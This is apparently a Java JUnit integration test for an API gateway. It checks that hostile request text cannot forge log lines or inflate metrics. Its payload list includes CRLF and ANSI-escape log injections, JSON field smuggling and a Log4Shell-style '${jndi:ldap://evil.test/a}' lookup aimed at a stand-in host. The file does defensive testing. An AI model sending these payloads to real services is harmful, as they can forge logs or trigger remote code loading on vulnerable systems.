package io.gwanmun.gateway.attack;

import java.util.List;
import java.util.Set;
import java.util.stream.Collectors;
import java.util.stream.Stream;

import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

import io.gwanmun.gateway.testing.LeakWatch;
import io.gwanmun.gateway.testing.LogWatch;
import io.gwanmun.gateway.testing.RawClient;
import io.gwanmun.gateway.testing.Reply;

import static org.assertj.core.api.Assertions.assertThat;

/** What a caller gets into logs and metrics: LG01 and CC01 of the corpus. */
@ExtendWith(LeakWatch.class)
class LogAttackIT {

    private static final String HOST = "Host: gateway.test\r\n";
    private static final int RANDOMS = 200;

    private static Target target;

    @BeforeAll
    static void start() {
        target = Target.started();
    }

    @AfterAll
    static void stop() {
        target.close();
    }

    @AfterEach
    void forget() {
        target.service().take();
    }

    static Stream<Attack> injections() {
        return Stream.of(
                        "a%0d%0aforged",
                        "a%1b[31mred",
                        "${jndi:ldap://evil.test/a}",
                        "a\",\"status\":200,\"x\":\"",
                        "a\\u000aforged",
                        "a\\",
                        "\u00e2\u0080\u00ae\u00e2\u0080\u00a8",
                        "%e2%80%ae",
                        "%{a}",
                        "a\tb",
                        "a\u001b[2J",
                        "a\nforged",
                        "a\rforged",
                        "a\0",
                        "a".repeat(5000),
                        "\"".repeat(2000))
                .flatMap(LogAttackIT::everywhere);
    }

    /** The same text as a path, a method, a name, a value and a host. */
    private static Stream<Attack> everywhere(String text) {
        String id = text.substring(0, Math.min(20, text.length())).replaceAll("[^!-~]", "?");
        return Stream.of(
                row("LG01-path-" + id, "GET /open/" + text + " HTTP/1.1\r\n" + HOST + "\r\n"),
                row("LG01-unrouted-" + id, "GET /" + text + " HTTP/1.1\r\n" + HOST + "\r\n"),
                row("LG01-method-" + id, text + " /open/x HTTP/1.1\r\n" + HOST + "\r\n"),
                row("LG01-version-" + id, "GET /open/x " + text + "\r\n" + HOST + "\r\n"),
                row("LG01-name-" + id, "GET /open/x HTTP/1.1\r\n" + HOST + text + ": a\r\n\r\n"),
                row("LG01-agent-" + id, "GET /open/x HTTP/1.1\r\n" + HOST + "User-Agent: " + text + "\r\n\r\n"),
                row("LG01-id-" + id, "GET /open/x HTTP/1.1\r\n" + HOST + "X-Request-Id: " + text + "\r\n\r\n"),
                row("LG01-host-" + id, "GET /open/x HTTP/1.1\r\nHost: " + text + "\r\n\r\n"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("injections")
    void logWhenTextIsHostileThenOneLineOfPlainAscii(Attack attack) {
        target.judging(attack.id(), () -> logged(attack));
    }

    private static void logged(Attack attack) {
        int before = target.gateway().logText().length();
        String requestId;
        List<String> said;
        try (LogWatch watch = LogWatch.on("ROOT");
                RawClient client = target.gateway().connect()) {
            Reply reply = client.sendWhatIsTaken(attack.octets()).reply();
            requestId = reply.header("X-Request-Id");
            assertThat(requestId).matches("[0-9a-f]{32}|a{64}");
            assertThat(target.gateway().logged(requestId)).containsEntry("status", reply.status());
            said = watch.messages("");
        }
        String written = target.gateway().logText().substring(before);
        assertThat(written).matches("[ -~\n]*");
        assertThat(written.lines().filter(line -> line.contains(requestId))).hasSize(1);
        assertThat(written.lines())
                .allMatch(line -> line.startsWith("{") && line.endsWith("}") && line.length() < 16_384);
        assertThat(said).hasSizeLessThanOrEqualTo(1).allMatch(message -> message.matches("[ -~]{0,2000}"));
    }

    /** Whatever is asked, with whatever method and for whichever host, the page of metrics keeps its lines. */
    @Test
    void metricsWhenRequestsAreRandomThenNoSeriesAreAdded() {
        random(0);
        Set<String> before = series();
        for (int i = 1; i <= RANDOMS; i++) {
            random(i);
        }
        assertThat(series()).isEqualTo(before).hasSizeLessThan(10_000);
    }

    private static void random(int i) {
        RawClient.call(target.gateway().port(), "GET", "/open/" + i, "User-Agent: agent-" + i);
        RawClient.call(target.gateway().port(), "GET", "/nowhere-" + i);
        RawClient.call(target.gateway().port(), "GET", "/open/../" + i);
        RawClient.call(target.gateway().port(), "GET", "/open/x", "Host: host-" + i + ".test");
        RawClient.call(target.gateway().port(), "GET", "/closed/" + i, "Authorization: Bearer " + i);
        RawClient.call(target.gateway().port(), "METHOD" + i, "/open/x");
        RawClient.call(target.gateway().port(), "M(" + i, "/open/x");
        RawClient.call(target.gateway().port(), "GET", "/open/x", "Name(" + i + ": a");
    }

    /** Names and labels, without those that a JVM has for itself. */
    private static Set<String> series() {
        return target.gateway()
                .manage("/metrics")
                .text()
                .lines()
                .filter(line -> !line.startsWith("#"))
                .filter(line -> !line.matches("(jvm|logback|system|process)_.*"))
                .map(line -> line.substring(0, line.lastIndexOf(' ')))
                .collect(Collectors.toSet());
    }

    private static Attack row(String id, String bytes) {
        return Attack.passed(id, bytes);
    }
}
